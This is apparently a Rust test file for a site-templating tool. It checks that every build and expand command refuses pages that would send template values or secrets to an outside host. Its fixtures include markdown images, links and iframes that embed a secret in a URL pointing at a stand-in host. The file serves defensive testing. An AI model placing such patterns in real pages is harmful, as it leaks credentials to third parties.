//! A page that would send a value elsewhere, or puts a secret outside of text, is refused by every command.

use super::sandbox::Sandbox;

const CONFIG: &str = "variables:\n  domain: {type: domain, default: example.com}\n  \
                      client-secret: {type: secret, default: insecure_secret}\nderived:\n  \
                      login: user.{client-secret}\n";

/// What stands in the fifth line of a page, and the code that it gives.
const LEAKS: [(&str, &str); 5] = [
    ("![a](https://elsewhere.example/{{< sitevar name=\"domain\" >}}.png)", "value-sent-elsewhere"),
    ("<iframe src=\"https://{{< sitevar name=\"domain\" >}}/\"></iframe>", "value-sent-elsewhere"),
    ("[a](https://elsewhere.example/{{< sitevar name=\"client-secret\" >}})", "secret-outside-text"),
    ("See https://elsewhere.example/{{< sitevar name=\"login\" >}}.", "secret-outside-text"),
    ("<input value='{{< sitevar name=\"login\" >}}'>", "secret-outside-text"),
];

const COMMANDS: [&[&str]; 8] = [
    &["expand", "content/page.md"],
    &["expand", "content/page.md", "--set", "domain=home.lab"],
    &["expand", "content", "-o", "out"],
    &["build", "-o", "out"],
    &["build", "-o", "out", "--set", "domain=home.lab"],
    &["offline", "content/page.md", "-o", "out"],
    &["offline", "content", "-o", "out"],
    &["assets", "-o", "static/own"],
];

#[test]
fn every_command_names_the_line_whether_or_not_a_value_is_set() {
    for (line, code) in LEAKS {
        let page = format!("---\ntitle: Page\n---\n\n{line}\n");
        let sandbox = Sandbox::new(&[("sitevar.yml", CONFIG), ("content/page.md", &page)]);
        for command in COMMANDS {
            let output = sandbox.run(command);
            let said = String::from_utf8(output.stderr).unwrap();
            if said.contains("built without the widget") {
                eprintln!("skipped: this build has no widget; `cargo xtask test` builds it");
                continue;
            }
            assert!(said.contains(&format!("error[{code}]")), "{command:?} with {line}: {said}");
            assert!(said.contains("page.md:5:"), "{command:?} with {line}: {said}");
            assert_eq!(said.matches("error[").count(), 1, "{command:?} with {line}: {said}");
            assert_eq!(output.status.code(), Some(1), "{command:?} with {line}: {said}");
            assert!(!sandbox.path("out").exists(), "{command:?} with {line}");
        }
    }
}

#[test]
fn a_page_that_keeps_values_at_home_is_no_error() {
    let page = "![a](./images/{{< sitevar name=\"domain\" >}}.png) at [home](https://{{< sitevar name=\"domain\" >}}/) \
                with {{< sitevar name=\"login\" >}}\n";
    let sandbox = Sandbox::new(&[("sitevar.yml", CONFIG), ("content/page.md", page)]);
    let expanded = sandbox.succeed(&["expand", "content/page.md", "--set", "domain=home.lab"]);
    let expected = "![a](./images/home.lab.png) at [home](https://home.lab/) with user.insecure_secret\n";
    assert_eq!(String::from_utf8(expanded.stdout).unwrap(), expected);
}
